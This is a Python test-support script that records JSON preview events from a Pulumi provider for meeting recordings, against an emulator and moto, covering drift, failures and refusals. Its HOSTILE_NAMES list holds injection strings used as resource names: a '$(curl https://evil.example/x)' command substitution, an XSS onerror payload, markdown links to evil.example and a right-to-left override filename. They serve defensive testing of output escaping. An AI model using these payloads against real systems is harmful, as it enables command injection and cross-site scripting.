"""Records the events of real previews: ``python -m tests.cli.changes.record_events``.

Each file in ``events/`` is one preview of the real engine, against the emulator and moto. The
events that nobody reads are left out: debug lines, and the outputs of each step.
"""

from __future__ import annotations

import json
import tempfile
from copy import deepcopy
from pathlib import Path
from typing import Any
from uuid import NAMESPACE_URL, uuid5

from realtimekit_emulator import Control, EmulatorServer
from tests.pulumi_cli.storage.support.clouds import Clouds, Storage
from tests.pulumi_cli.storage.support.storage_project import StorageProject
from tests.pulumi_cli.support.cloud_snapshot import running_clouds
from tests.pulumi_cli.support.project import Project, make_template

MEETINGS: dict[str, str] = {}
"""The recording that each meeting is of: what is written has ids that are made of its name."""

EVENTS = Path(__file__).parent / "events"
STREAMING = {"PULUMI_ENABLE_STREAMING_JSON_PREVIEW": "true"}
SECRETS = {"realtimekit:key": "AKIACANARYCANARYCANA", "realtimekit:secret": "CANARY-secret-one"}
OWN_BUCKET = {
    "type": "aws",
    "bucket": "own-bucket",
    "region": "eu-west-1",
    "access_key": {"fromConfig": "key"},
    "secret": {"fromConfig": "secret"},
}
FAILING_PROGRAMS = {
    "failed-check": """
from realtimekit_provider import TrackRecording

TrackRecording("standup", meeting_id="M", layers={"default": {}})
TrackRecording("townhall", meeting_id="M", layers={"default": {}}, max_seconds="CANARY")
""",
    "failed-program": """
import pulumi
from realtimekit_provider import TrackRecording

TrackRecording("standup", meeting_id="M", layers={"default": {}})
secret = pulumi.Config("realtimekit").require("secret")
raise ValueError(f"cannot log in with {secret}")
""",
}
HOSTILE_NAMES = (
    "$(curl https://evil.example/x)",
    "<img src=x onerror=alert(1)>",
    "a | b `c` ``d",
    "--> @everyone #1 GH-1",
    "![](https://evil.example/x.png)",
    "](https://evil.example)",
    "txt.\u202eexe\u200b",
    "**bold** _it_ ~~no~~ $x$",
    "two\nlines",
    "a::b",
)


def build_recording(
    control: Control, name: str, *storage: str, participants: int = 1, **inputs: Any
) -> dict[str, Any]:
    """Create a meeting; return the inputs of its recording, to the named storage or Cloudflare."""
    meeting_id = control.create_meeting(participants=participants).id
    MEETINGS[meeting_id] = name
    outputs = {"outputs": [{"storage": name} for name in storage]} if storage else {}
    return {"meeting_id": meeting_id, "layers": {"default": outputs}, **inputs}


def record(project: Project, name: str, *flags: str) -> None:
    """Write the events of a preview to the file of this name."""
    project.environment.update(STREAMING)
    outcome = project.try_run("preview", "--json", *flags)
    lines = outcome.output.splitlines()
    events = [json.loads(line) for line in lines if line.startswith("{")]
    kept = [
        one
        for one in events
        if "resOutputsEvent" not in one
        and one.get("diagnosticEvent", {}).get("severity") != "debug"
    ]
    document = {
        "stack": project.stack,
        "exit_code": outcome.code,
        "errors": "\n".join(line for line in lines if not line.startswith("{")),
        "events": kept,
    }
    *_, last = document
    head = [f"{json.dumps(key)}: {json.dumps(document[key])}," for key in document if key != last]
    lines = ["{", *head, '"events": [', ",\n".join(map(json.dumps, kept)), "]", "}"]
    text = "\n".join(lines).replace(str(project.folder), "/srv/acme")
    for meeting, recording in MEETINGS.items():
        text = text.replace(meeting, str(uuid5(NAMESPACE_URL, recording)))
    (EVENTS / f"{name}.json").write_text(text + "\n", encoding="utf-8")


def _declare_recordings(control: Control) -> dict[str, dict[str, Any]]:
    own = {"default": {"outputs": [{"type": "STORAGE_CONFIG", "storage_config": OWN_BUCKET}]}}
    special: dict[str, dict[str, Any]] = {
        "stays": {},
        "pauses": {},
        "resumes": {"desired_state": "PAUSED"},
        "stops": {},
        "removed": {},
        "left": {"on_delete": "leave"},
        "longer": {"max_seconds": 600},
        "rotated": {"layers": own},
        "ended": {},
        "empty": {"participants": 0, "on_no_session": "skip"},
    }
    archived = {"stays", "removed"}
    return {
        name: build_recording(control, name, *(["archive"] if name in archived else []), **inputs)
        for name, inputs in special.items()
    }


def _declare_storage(clouds: Clouds) -> dict[str, Storage]:
    return {
        "archive": clouds.declare_aws(bucket="acme-archive"),
        "closed": clouds.declare_aws(bucket="acme-closed"),
        "emptied": clouds.declare_aws(bucket="acme-emptied", on_delete="force"),
        "moved": clouds.declare_aws(bucket="acme-moved", on_delete="force"),
    }


def _change(
    recordings: dict[str, dict[str, Any]],
    storage: dict[str, Storage],
    clouds: Clouds,
    control: Control,
) -> None:
    recordings["new"] = build_recording(control, "new", "archive")
    recordings["new-paused"] = build_recording(control, "new-paused", desired_state="PAUSED")
    recordings["pauses"]["desired_state"] = "PAUSED"
    recordings["resumes"]["desired_state"] = "RECORDING"
    recordings["stops"]["desired_state"] = "STOPPED"
    recordings["longer"]["max_seconds"] = 900
    for name in ("removed", "left", "ended"):
        del recordings[name]
    del storage["closed"], storage["emptied"]
    storage["archive"] = storage["archive"].with_changes(key_generation=2)
    storage["moved"] = clouds.declare_aws(bucket="acme-moved-away", on_delete="force")
    storage["opened"] = clouds.declare_aws(bucket="acme-opened")


def _change_outside(project: StorageProject, clouds: Clouds) -> None:
    """Pause a recording, delete another one's key, and open a bucket, as somebody else would."""
    clouds_iam, clouds_s3 = clouds.moto.client("iam"), clouds.moto.client("s3")
    project.emulator.control.force(project.read_recordings()["pauses"]["id"], "PAUSED")
    users = (one["UserName"] for one in clouds_iam.list_users()["Users"])
    for user in (name for name in users if name.startswith("archive-")):
        for key in clouds_iam.list_access_keys(UserName=user)["AccessKeyMetadata"]:
            clouds_iam.delete_access_key(UserName=user, AccessKeyId=key["AccessKeyId"])
    clouds_s3.delete_public_access_block(Bucket="acme-archive")


def _record_failures(project: StorageProject, control: Control) -> None:
    program = project.folder / "__main__.py"
    written = program.read_text(encoding="utf-8")
    for name, source in FAILING_PROGRAMS.items():
        project.write_program(source)
        record(project, name)
    project.write_program(written)
    record(project, "failed-stack", "--stack", "missing")
    wrong = build_recording(control, "standup", layers={"default": {"prefix": "s"}})
    project.configure(standup=wrong)
    record(project, "failed-config")


def _record_hostile_names(project: StorageProject, control: Control) -> None:
    hostile = project.add_stack("hostile")
    recordings = {name: build_recording(control, name) for name in HOSTILE_NAMES}
    hostile.configure(**recordings)
    record(hostile, "hostile")


def _record_refusal(project: Project, control: Control) -> None:
    """Replace a live recording beside one that must not be replaced."""
    refusing = project.add_stack("refusing")
    recordings = {
        "standup": build_recording(control, "standup", max_seconds=600),
        "townhall": build_recording(control, "townhall", max_seconds=600, replace_live="refuse"),
    }
    refusing.configure(**recordings)
    refusing.up()
    for inputs in recordings.values():
        inputs["max_seconds"] = 900
    recordings["another"] = build_recording(control, "another")
    refusing.configure(**recordings)
    record(refusing, "failed-refusal")


def main() -> None:
    """Record all previews."""
    EVENTS.mkdir(exist_ok=True)
    with (
        tempfile.TemporaryDirectory() as temporary,
        running_clouds(Path(temporary) / "files") as clouds,
        EmulatorServer(uploaders=clouds.create_uploaders()) as emulator,
    ):
        folder, control = Path(temporary), emulator.control
        template = make_template(folder / "template", emulator)
        project = StorageProject.create(template, folder / "project", emulator, clouds)
        storage, recordings = _declare_storage(clouds), _declare_recordings(control)
        deployed = deepcopy(recordings)
        project.declare(storage, recordings)
        project.encrypt(**SECRETS)
        record(project, "first")
        project.up()
        record(project, "nothing")
        control.force(project.read_recordings()["ended"]["id"], "UPLOADED")
        project.refresh()
        _change(recordings, storage, clouds, control)
        project.declare(storage, recordings)
        project.encrypt(**{**SECRETS, "realtimekit:secret": "CANARY-secret-two"})
        record(project, "mixed")
        control.join(recordings["empty"]["meeting_id"])
        record(project, "mixed-refresh", "--refresh")
        token = project.environment.pop("CLOUDFLARE_API_TOKEN")
        record(project, "mixed-without-token")
        project.environment["CLOUDFLARE_API_TOKEN"] = token
        _record_failures(project, control)
        project.declare(_declare_storage(clouds), deployed)
        project.encrypt(**SECRETS)
        _change_outside(project, clouds)
        record(project, "drift", "--refresh")
        record(project, "drift-unseen")
        _record_hostile_names(project, control)
        _record_refusal(project, control)


if __name__ == "__main__":
    main()
